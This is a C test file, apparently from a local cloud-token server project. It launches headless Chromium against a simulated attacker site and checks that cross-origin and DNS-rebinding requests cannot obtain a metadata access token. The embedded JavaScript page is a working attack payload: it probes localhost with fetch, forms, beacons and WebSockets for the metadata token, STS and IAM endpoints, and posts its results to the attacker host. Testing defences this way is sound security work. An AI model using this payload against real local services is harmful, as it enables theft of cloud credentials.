/*
 * A real browser against each kind of port, with each surface behind it: what a web page can do, and what one can whose name was
 * rebound to 127.0.0.1. Where the session is ours the page knows what no page would, its handle; the configuration's port takes any:
 * there nothing but the rules on who asks keeps it out.
 *
 * The attacker's server is a thread of ours. Chromium is told that evil.test and rebind.test are there (--host-resolver-rules): the former
 * serves the pages and takes their reports; what is asked of http://rebind.test:PORT, PORT being ours, beside its page,
 * is handed on to our port byte for byte, as if the name had come to mean 127.0.0.1 in between.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <unistd.h>
#include "hallpass/cleanup.h"
#include "tests/lib/session.h"
#include "tests/lib/world.h"

#define PATIENCE_MS 60000
#define PATH "/computeMetadata/v1/instance/service-accounts/default/token"

#define IAM "/v1/projects/-/serviceAccounts/" SA_DEV ":generateAccessToken"

static struct world w;
static struct session_of_test s; /* what the page is at; fd: of the control connection, where it is a session's */
static struct running relay;

/* --- the attacker's server */

static struct {
	pthread_t thread;
	int listening, port;
	pthread_mutex_t lock;
	char report[65536]; /* what the page tells of its tries; "": nothing yet */
	int handed_on;
} attacker = { .lock = PTHREAD_MUTEX_INITIALIZER };

/* Each try ends in a line NAME=RESULT. No-cors answers are opaque to the page; whether a token was issued tells the record. */
static const char page[] =
	"<!doctype html><title>evil</title><body><script>\n"
	"const P = %d, handle = '%s', path = '" PATH "', iam = '" IAM "', lines = [];\n"
	"const grant = {grant_type: 'urn:ietf:params:oauth:grant-type:token-exchange', audience: '//hallpass.invalid/local', subject_token: handle,\n"
	"  subject_token_type: 'urn:ietf:params:oauth:token-type:jwt', requested_token_type: 'urn:ietf:params:oauth:token-type:access_token'};\n"
	"const scope = '{\"scope\": [\"https://www.googleapis.com/auth/cloud-platform\"]}';\n"
	"const flavor = {headers: {'Metadata-Flavor': 'Google'}};\n"
	"const limit = p => Promise.race([p, new Promise((_, no) => setTimeout(() => no('timeout'), 4000))]);\n"
	"async function get(name, url, init) {\n"
	"  try { const r = await limit(fetch(url, init)); lines.push(name + '=' + r.type + ' ' + r.status + ' ' + await r.text()); }\n"
	"  catch (e) { lines.push(name + '=err ' + e); }\n"
	"}\n"
	"const element = (name, make) => limit(new Promise(done => { const e = make(); e.onload = () => done('load'); e.onerror = () => done('error');\n"
	"  document.body.append(e); })).then(r => lines.push(name + '=' + r), e => lines.push(name + '=' + e));\n"
	"let forms = 0;\n"
	"const form = (name, action, enctype, members) => element(name, () => {\n"
	"  const f = document.createElement('form'), e = document.createElement('iframe'); e.name = f.target = 'form' + forms++;\n"
	"  f.method = 'POST'; f.enctype = enctype; f.action = action;\n"
	"  for (const [k, v] of Object.entries(members)) { const i = document.createElement('input'); i.name = k; i.value = v; f.append(i); }\n"
	"  document.body.append(f); setTimeout(() => f.submit()); return e;\n"
	"});\n"
	"const socket = (name, url) => limit(new Promise(done => { const s = new WebSocket(url); s.onopen = () => done('OPEN'); s.onerror = () =>\n"
	"  done('error'); })).then(r => lines.push(name + '=' + r), e => lines.push(name + '=' + e));\n"
	"async function evil() {\n"
	"  for (const host of ['127.0.0.1', 'localhost', '0.0.0.0', '[::1]']) {\n"
	"    const at = 'http://' + host + ':' + P;\n"
	"    await get('nocors ' + host, at + path, {mode: 'no-cors'});\n"
	"    await get('ping ' + host, at + '/', {mode: 'no-cors'});\n"
	"    await get('cors ' + host, at + path);\n"
	"    await get('preflight ' + host, at + path, flavor);\n"
	"    await get('post ' + host, at + path, {method: 'POST', mode: 'no-cors', body: 'a=b'});\n"
	"    await get('json ' + host, at + '/v1/sessions', {method: 'POST', mode: 'no-cors', body: '{}'});\n"
	"    await get('noreferrer ' + host, at + path, {mode: 'no-cors', referrerPolicy: 'no-referrer', credentials: 'omit'});\n"
	"    await element('img ' + host, () => { const e = new Image(); e.src = at + path; return e; });\n"
	"    await element('script ' + host, () => { const e = document.createElement('script'); e.src = at + path; return e; });\n"
	"    await element('iframe ' + host, () => { const e = document.createElement('iframe'); e.src = at + path; return e; });\n"
	"    await socket('websocket ' + host, 'ws://' + host + ':' + P + path);\n"
	"    lines.push('beacon ' + host + '=' + navigator.sendBeacon(at + path, 'x'));\n"
	"    lines.push('beacon sts ' + host + '=' + navigator.sendBeacon(at + '/v1/token', new URLSearchParams(grant)));\n"
	"    await form('form ' + host, at + path, 'text/plain', {a: 'b'});\n"
	"    await form('form sts ' + host, at + '/v1/token', 'application/x-www-form-urlencoded', grant);\n"
	"    await form('form introspect ' + host, at + '/v1/introspect', 'application/x-www-form-urlencoded', {token: 'x'});\n"
	"    await form('form iam ' + host, at + iam, 'text/plain', {[scope.slice(0, -1) + ', \"x\": \"']: '\"}'});\n"
	"    await get('sts ' + host, at + '/v1/token', {method: 'POST', mode: 'no-cors', body: new URLSearchParams(grant)});\n"
	"    await get('iam ' + host, at + iam, {method: 'POST', mode: 'no-cors', body: scope});\n"
	"    await get('iam preflight ' + host, at + iam, {method: 'POST', headers: {'Content-Type': 'application/json', Authorization: 'Bearer ' + handle}, body: scope});\n"
	"    await socket('websocket sts ' + host, 'ws://' + host + ':' + P + '/v1/token');\n"
	"  }\n"
	"}\n"
	"async function rebind() {\n"
	"  const quiet = {...flavor, referrerPolicy: 'no-referrer'};\n"
	"  await get('rebound', path, quiet);\n"
	"  await get('rebound ping', '/', quiet);\n"
	"  await get('rebound with referrer', path, flavor);\n"
	"  await get('rebound sts', '/v1/token', {method: 'POST', referrerPolicy: 'no-referrer', body: new URLSearchParams(grant)});\n"
	"  await get('rebound iam', iam, {method: 'POST', referrerPolicy: 'no-referrer', headers: {'Content-Type': 'application/json',\n"
	"    Authorization: 'Bearer ' + handle}, body: scope});\n"
	"  await get('rebound iam by GET', iam, {referrerPolicy: 'no-referrer', headers: {Authorization: 'Bearer ' + handle}});\n"
	"  await socket('rebound websocket', 'ws://' + location.host + path);\n"
	"  await get('rebound session', '/v1/sessions', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: '{}'});\n"
	"}\n"
	"(location.hostname == 'evil.test' ? evil() : rebind()).then(() => {\n"
	"  if (location.hostname == 'evil.test') setTimeout(() => fetch('/report', {method: 'POST', body: lines.join('\\n')}), 500);\n"
	"  else fetch('/report', {method: 'POST', body: lines.join('\\n')});\n"
	"});\n"
	"</script></body>\n";

static size_t read_until_whole(int fd, char *text, size_t size) {
	size_t n = 0;
	char *end = NULL, *length;

	text[0] = '\0';
	while (n < size - 1 && (!end || n - (size_t)(end + 4 - text) < (size_t)((length = strcasestr(text, "\r\nContent-Length:")) && length < end ? atoi(length + 17) : 0))) {
		struct pollfd p = { .fd = fd, .events = POLLIN };
		ssize_t r = poll(&p, 1, 10000) > 0 ? read(fd, text + n, size - 1 - n) : -1;

		if (r <= 0)
			break;
		n += (size_t)r;
		text[n] = '\0';
		end = strstr(text, "\r\n\r\n");
	}
	return n;
}

static void send_all(int fd, const char *text, size_t n) {
	while (n) {
		ssize_t r = send(fd, text, n, MSG_NOSIGNAL);

		if (r <= 0)
			return;
		text += r;
		n -= (size_t)r;
	}
}

static void send_page(int fd, const char *type, const char *body) {
	char head[200];

	send_all(fd, head, (size_t)snprintf(head, sizeof(head), "HTTP/1.1 200 OK\r\nContent-Type: %s\r\nContent-Length: %zu\r\nConnection: close\r\n\r\n",
					     type, strlen(body)));
	send_all(fd, body, strlen(body));
}

/* To our port, as it came; the answer back. */
static void hand_on(int fd, const char *text, size_t n) {
	int to = md_dial(&s);
	char answer[16384];

	attacker.handed_on++;
	assert_true(to >= 0);
	send_all(to, text, n);
	n = read_until_whole(to, answer, sizeof(answer));
	send_all(fd, answer, n);
	close(to);
}

static void serve(int fd) {
	static char text[65536], whole[sizeof(page) + 100];
	size_t n = read_until_whole(fd, text, sizeof(text));
	char *body = strstr(text, "\r\n\r\n");

	if (!body)
		return;
	pthread_mutex_lock(&attacker.lock);
	if (!strncmp(text, "POST /report ", 13)) {
		snprintf(attacker.report, sizeof(attacker.report), "%s", body + 4);
		send_page(fd, "text/plain", "");
	} else if (!strncmp(text, "GET /page ", 10)) {
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
		snprintf(whole, sizeof(whole), page, s.port, s.handle[0] ? s.handle : "any will do");
#pragma GCC diagnostic pop
		send_page(fd, "text/html", whole);
	} else if (!strcasestr(text, "\r\nHost: evil.test")) {
		hand_on(fd, text, n);
	} else {
		send_page(fd, "text/plain", "");
	}
	pthread_mutex_unlock(&attacker.lock);
}

static void *attacker_main(void *arg) {
	int fd;

	while ((fd = accept4(attacker.listening, NULL, NULL, SOCK_CLOEXEC)) >= 0) {
		serve(fd);
		close(fd);
	}
	return arg;
}

static void attacker_start(void) {
	struct sockaddr_in in = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
	socklen_t len = sizeof(in);

	attacker.listening = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	assert_int_equal(bind(attacker.listening, (struct sockaddr *)&in, len), 0);
	assert_int_equal(listen(attacker.listening, 64), 0);
	getsockname(attacker.listening, (struct sockaddr *)&in, &len);
	attacker.port = ntohs(in.sin_port);
	attacker.report[0] = '\0';
	attacker.handed_on = 0;
	assert_int_equal(pthread_create(&attacker.thread, NULL, attacker_main, NULL), 0);
}

static void attacker_stop(void) {
	shutdown(attacker.listening, SHUT_RDWR);
	pthread_join(attacker.thread, NULL);
	close(attacker.listening);
}

/* --- the browser */

static const char *find_browser(void) {
	static const char *const names[] = { "chromium-headless-shell", "chromium", "chromium-browser", "google-chrome", "headless_shell" };
	char command[100];

	for (size_t i = 0; i < ARRAY_SIZE(names); i++) {
		snprintf(command, sizeof(command), "command -v %s >/dev/null", names[i]);
		if (system(command) == 0)
			return names[i];
	}
	return NULL;
}

static bool reported(void) {
	bool there;

	pthread_mutex_lock(&attacker.lock);
	there = attacker.report[0] != '\0';
	pthread_mutex_unlock(&attacker.lock);
	return there;
}

/* Until the page has reported. What browsers know of local networks by themselves is switched off: others know nothing of it. */
static void browse(const char *browser, const char *url) {
	char rules[200], profile[100];
	pid_t pid;

	snprintf(rules, sizeof(rules), "--host-resolver-rules=MAP evil.test:80 127.0.0.1:%d, MAP rebind.test:%d 127.0.0.1:%d", attacker.port, s.port,
		 attacker.port);
	snprintf(profile, sizeof(profile), "--user-data-dir=%s/chromium", w.dir);
	pid = fork();
	if (pid == 0) {
		setpgid(0, 0);
		if (!freopen("/dev/null", "w", stderr) || !freopen("/dev/null", "w", stdout))
			_exit(1);
		execlp(browser, browser, "--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", "--no-proxy-server",
		       "--disable-background-networking", "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests,HttpsUpgrades",
		       rules, profile, "--remote-debugging-port=0", url, (char *)NULL);
		_exit(127);
	}
	for (int waited = 0; waited < PATIENCE_MS && !reported(); waited += 20) {
		poll(NULL, 0, 20);
		if (waitpid(pid, NULL, WNOHANG) == pid)
			fail_msg("the browser ended by itself");
	}
	kill(-pid, SIGKILL);
	waitpid(pid, NULL, 0);
	assert_true(reported());
	fprintf(stderr, "%s\n", attacker.report); /* print_message() cuts it */
}

static int setup(void **state) {
	(void)state;
	world_start(&w);
	return 0;
}

static int teardown(void **state) {
	(void)state;
	place_end(&s, &relay);
	return world_end_well(&w);
}

static int64_t requests_so_far(void) {
	struct answer a;
	int64_t n;

	ask(&w, "GET", "/v1/status", NULL, &a);
	n = answer_int(&a, "connections.requests");
	answer_fini(&a);
	return n;
}

/* --- what it is told */

static const char *browser_or_skip(void) {
	const char *browser = find_browser();

	if (!browser) {
		print_message("skipped: no Chromium is installed\n");
		skip();
	}
	return browser;
}

/* [::1] is there where a listener has it. */
static void begin(enum place place) {
	if (place_begin(&w, place, &s, &relay))
		return;
	print_message("skipped: no IPv6 loopback here\n");
	skip();
}

/* Nothing was issued, nor asked of Google: and the port does give tokens to who may have them. */
static void assert_nothing_was_issued(enum place place) {
	json_t *records = world_records(&w, NULL, 0);
	char request[300], answer[4096];

	assert_non_null(records);
	assert_int_equal(records_count(records, "issued") + records_count(records, "intent"), 0);
	assert_int_equal(records_count(records, "opened"), place == PLACE_SESSION || place == PLACE_RELAY);
	json_decref(records);
	assert_null(strstr(attacker.report, "access_token"));
	assert_null(strstr(attacker.report, "accessToken"));
	assert_null(strstr(attacker.report, "ya29"));
	snprintf(request, sizeof(request), "GET " PATH " HTTP/1.1\r\nHost: %s\r\nMetadata-Flavor: Google\r\nConnection: close\r\n\r\n", s.host);
	md_bytes(&s, request, answer, sizeof(answer));
	assert_non_null(strstr(answer, "HTTP/1.1 200 "));
}

static void assert_reported(const char *what) {
	if (!strstr(attacker.report, what))
		fail_msg("no \"%s\"", what);
}

static void page_gets_no_token(enum place place) {
	static const char *const expected[] = { "\ncors %s=err",	"\npreflight %s=err", "\nwebsocket %s=error", "\nbeacon %s=true",
						"nocors %s=opaque",	"\nsts %s=opaque",   "\niam %s=opaque",	     "\niam preflight %s=err",
						"\nform sts %s=load",	"\nform iam %s=load", "\nwebsocket sts %s=error" };
	const char *browser = browser_or_skip();
	char what[64];
	int64_t before;

	begin(place);
	before = requests_so_far();
	attacker_start();
	browse(browser, "http://evil.test/page");
	attacker_stop();
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
	for (size_t i = 0; i < ARRAY_SIZE(expected); i++) {
		snprintf(what, sizeof(what), expected[i], place == PLACE_LISTENER6 ? "[::1]" : "127.0.0.1");
		assert_reported(what);
	}
#pragma GCC diagnostic pop
	assert_true(requests_so_far() - before > 20); /* they did arrive: it is we who refused them */
	assert_nothing_was_issued(place);
}

static void rebound_page_gets_no_token(enum place place) {
	/* It is the same origin to the browser, which sends what it is told and lets the page read what comes. */
	static const char *const expected[] = { "rebound=basic 421 ", "rebound ping=basic 421 ", "MISDIRECTED_REQUEST", "rebound with referrer=basic 403 ",
						"rebound sts=basic 403 ", "rebound iam=basic 403 ", "rebound iam by GET=basic 421 ",
						"rebound websocket=error", "rebound session=basic 403 " };
	const char *browser = browser_or_skip();
	char url[64];

	begin(place);
	attacker_start();
	snprintf(url, sizeof(url), "http://rebind.test:%d/page", s.port);
	browse(browser, url);
	attacker_stop();
	assert_true(attacker.handed_on >= 8);
	for (size_t i = 0; i < ARRAY_SIZE(expected); i++)
		assert_reported(expected[i]);
	assert_nothing_was_issued(place);
}

#define AT(place, number)                                                                                              \
	static void test_P4_a_page_gets_no_token_at_a_##place(void **state) {                                         \
		(void)state;                                                                                           \
		page_gets_no_token(number);                                                                            \
	}                                                                                                              \
	static void test_P4_a_rebound_page_gets_no_token_at_a_##place(void **state) {                                 \
		(void)state;                                                                                           \
		rebound_page_gets_no_token(number);                                                                    \
	}

AT(session, PLACE_SESSION)
AT(listener, PLACE_LISTENER)
AT(listener6, PLACE_LISTENER6)
AT(relay, PLACE_RELAY)

#define SCENARIO(f) cmocka_unit_test_setup_teardown(f, setup, teardown)

int main(void) {
	const struct CMUnitTest tests[] = {
		SCENARIO(test_P4_a_page_gets_no_token_at_a_session),
		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_session),
		SCENARIO(test_P4_a_page_gets_no_token_at_a_listener),
		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_listener),
		SCENARIO(test_P4_a_page_gets_no_token_at_a_listener6),
		SCENARIO(test_P4_a_page_gets_no_token_at_a_relay),
		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_listener6),
		SCENARIO(test_P4_a_rebound_page_gets_no_token_at_a_relay),
	};

	signal(SIGPIPE, SIG_IGN);
	cmocka_set_test_filter(getenv("HALLPASS_TEST_FILTER"));
	return cmocka_run_group_tests(tests, NULL, NULL);
}
